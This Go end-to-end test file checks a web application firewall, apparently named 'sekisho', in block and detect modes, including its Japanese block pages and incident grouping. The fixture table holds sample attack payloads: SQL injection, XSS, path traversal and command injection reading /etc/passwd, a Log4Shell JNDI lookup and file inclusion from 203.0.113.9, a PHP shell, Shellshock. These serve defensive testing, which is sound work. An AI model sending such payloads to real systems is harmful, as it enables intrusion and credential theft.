package e2e

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
)

// attack is one real attack request of a Core Rule Set family.
type attack struct {
	family string
	build  func(host string) *http.Request
}

func getAttack(pathAndQuery string) func(string) *http.Request {
	return func(host string) *http.Request {
		request := httptest.NewRequest(http.MethodGet, "https://"+host+pathAndQuery, http.NoBody)
		request.RequestURI = ""
		browserHeaders(request)
		return request
	}
}

func postAttack(contentType, body string) func(string) *http.Request {
	return func(host string) *http.Request {
		request := httptest.NewRequest(http.MethodPost, "https://"+host+"/contact", strings.NewReader(body))
		request.RequestURI = ""
		browserHeaders(request)
		request.Header.Set("Content-Type", contentType)
		return request
	}
}

func headerAttack(name, value string) func(string) *http.Request {
	return func(host string) *http.Request {
		request := getAttack("/")(host)
		request.Header.Set(name, value)
		return request
	}
}

const formType = "application/x-www-form-urlencoded"

var attacks = []attack{
	{"SQL injection in the query", getAttack("/search?q=" + url.QueryEscape("1' UNION SELECT username,password FROM users-- -"))},
	{"SQL injection in a form", postAttack(formType, url.Values{"name": {"山田 太郎"}, "body": {"1' OR '1'='1' -- "}}.Encode())},
	{"SQL injection in JSON", postAttack("application/json", `{"name":"山田","item":"1' UNION SELECT NULL,version()-- -"}`)},
	{"cross-site scripting", getAttack("/search?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"))},
	{"cross-site scripting in Japanese text", postAttack(formType, url.Values{"body": {"見積もりをお願いします<img src=x onerror=alert(1)>よろしくお願いいたします"}}.Encode())},
	{"path traversal", getAttack("/download?file=../../../../etc/passwd")},
	{"remote command execution", getAttack("/ping?host=" + url.QueryEscape("127.0.0.1; cat /etc/passwd"))},
	{"remote file inclusion", getAttack("/page?include=" + url.QueryEscape("http://203.0.113.9/shell.txt?"))},
	{"PHP injection", getAttack("/?x=" + url.QueryEscape("<?php system($_GET['c']); ?>"))},
	{"Java (Log4Shell)", headerAttack("User-Agent", "${jndi:ldap://203.0.113.9/a}")},
	{"Shellshock in a header", headerAttack("Referer", "() { :; }; /bin/cat /etc/passwd")},
	{"SQL injection in a cookie", headerAttack("Cookie", "cart=1' UNION SELECT password FROM users-- -")},
	{"scanner", headerAttack("User-Agent", "sqlmap/1.7 (https://sqlmap.org)")},
}

// countingOrigin answers every request and counts those it saw.
func countingOrigin(t *testing.T) (url string, seen *atomic.Int64) {
	t.Helper()
	seen = new(atomic.Int64)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		seen.Add(1)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte("<!doctype html><title>やまだ工務店</title><p>いらっしゃいませ"))
	}))
	t.Cleanup(server.Close)
	return server.URL, seen
}

var numberOnPage = regexp.MustCompile(`[0-9A-HJKMNP-TV-Z]{4}(?:-[0-9A-HJKMNP-TV-Z]{4}){3}`)

func TestServe_stopsAttacksInBlockModeAndRecordsThemInDetectMode(t *testing.T) {
	t.Parallel()
	origin, seen := countingOrigin(t)
	dir := t.TempDir()
	p := serve(t, dir, "--site", "block.example="+origin, "--site", "detect.example="+origin)
	must(t, "site", "set", "block.example", "--mode", "block", "--data-dir", dir)
	client := p.client()

	for _, host := range []string{"block.example", "detect.example"} {
		before := seen.Load()
		if got := get(t, client, "https://"+host+"/?q=%E8%A6%8B%E7%A9%8D"); got.status != http.StatusOK || !strings.Contains(got.body, "いらっしゃいませ") {
			t.Errorf("an ordinary request to %s: got %d %q, want the origin's page", host, got.status, got.body)
		}
		if seen.Load() != before+1 {
			t.Errorf("an ordinary request to %s did not reach the origin", host)
		}
	}
	for _, a := range attacks {
		t.Run(a.family, func(t *testing.T) {
			before := seen.Load()
			got := do(t, client, a.build("block.example"))
			if got.status != http.StatusForbidden || seen.Load() != before {
				t.Fatalf("block mode: got %d, origin asked %d times; want 403 and no request at the origin", got.status, seen.Load()-before)
			}
			number := numberOnPage.FindString(got.body)
			if number == "" || !strings.Contains(got.body, "<html lang=\"ja\"") {
				t.Fatalf("block page in Japanese without a number: %s", got.body)
			}
			if request := got.header.Get("X-Request-ID"); request != strings.ReplaceAll(number, "-", "") {
				t.Errorf("got X-Request-ID %q, want the number of the page %q", request, number)
			}
			eventually(t, "the event of the block page's number", func() bool {
				_, _, code := sekisho(t, "events", "--json", "--id", strings.ToLower(number), "--data-dir", dir)
				return code == 0
			})
			if got := do(t, client, a.build("detect.example")); got.status != http.StatusOK || seen.Load() != before+1 {
				t.Errorf("detect mode: got %d, origin asked %d times; want 200 and one request", got.status, seen.Load()-before)
			}
		})
	}
	eventually(t, "an event for every attack", func() bool { return len(events(t, dir)) == 2*len(attacks) })
	for _, e := range events(t, dir) {
		want := map[string]event{
			"block.example":  {Action: "blocked", Outcome: "prevented", Status: 403},
			"detect.example": {Action: "detected", Outcome: "unknown", Status: 200},
		}[e.Site]
		if e.Action != want.Action || e.Outcome != want.Outcome || e.Status != want.Status || len(e.RuleIDs) == 0 || e.Score < 5 || e.Count != 1 || e.Source != "waf" || e.Tenant != "default" {
			t.Errorf("got event %+v, want %+v", e, want)
		}
	}
	checkIncidents(t, dir)
}

func checkIncidents(t *testing.T, dir string) {
	t.Helper()
	japanese, english := incidents(t, dir), incidents(t, dir, "--lang", "en")
	total := 0
	for i, incident := range japanese {
		total += incident.Count
		if incident.Title == "" || incident.Explanation == "" || english[i].Title == "" || english[i].Title == incident.Title {
			t.Errorf("incident %s has no words in both languages: %+v / %+v", incident.ID, incident, english[i])
		}
		if incident.First.IsZero() || incident.Last.Before(incident.First) {
			t.Errorf("incident %s: first %s, last %s", incident.ID, incident.First, incident.Last)
		}
	}
	if got := len(japanese); got == 0 || got >= 2*len(attacks) {
		t.Errorf("got %d incidents for %d events, want them grouped", got, 2*len(attacks))
	}
	if want := 2 * len(attacks); total != want {
		t.Errorf("incidents count %d events together, want %d", total, want)
	}
}

func TestServe_asksNoOriginForAnUnknownHost(t *testing.T) {
	t.Parallel()
	origin, seen := countingOrigin(t)
	p := serve(t, t.TempDir(), "--site", "known.example="+origin)
	request, err := http.NewRequest(http.MethodGet, "http://"+p.http+"/", http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	request.Host = "stranger.example"
	if got := do(t, http.DefaultClient, request); got.status != http.StatusMisdirectedRequest || seen.Load() != 0 {
		t.Errorf("got %d and %d requests at the origin, want 421 and none", got.status, seen.Load())
	}
	if response, err := p.client().Get("https://stranger.example/"); err == nil {
		_ = response.Body.Close()
		t.Errorf("got a TLS answer %d for an unknown name, want a refused handshake", response.StatusCode)
	}
}

func TestServe_answersWithANumberWhenTheOriginIsDown(t *testing.T) {
	t.Parallel()
	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close()
	dir := t.TempDir()
	p := serve(t, dir, "--site", "down.example="+closed.URL, "--mode", "block")
	got := get(t, p.client(), "https://down.example/")
	number := numberOnPage.FindString(got.body)
	if got.status != http.StatusBadGateway || number == "" {
		t.Fatalf("got %d %q, want 502 and a number", got.status, got.body)
	}
	eventually(t, "the event of the failure", func() bool {
		stdout, _, code := sekisho(t, "events", "--json", "--data-dir", dir, "--id", number)
		return code == 0 && strings.Contains(stdout, `"reason":"origin_unreachable"`)
	})
}
